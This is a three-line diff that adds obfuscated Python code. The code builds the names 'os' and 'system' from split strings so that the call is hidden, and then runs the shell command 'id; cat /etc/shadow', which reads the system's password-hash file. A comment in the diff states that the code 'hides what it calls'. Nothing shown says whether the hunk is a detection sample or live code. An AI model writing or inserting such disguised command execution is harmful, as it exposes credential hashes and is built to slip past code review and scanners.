@@ -1,0 +1,3 @@
+# hides what it calls
+m = __import__("o" + "s")
+getattr(m, "sy" + "stem")("id; cat /etc/shadow")
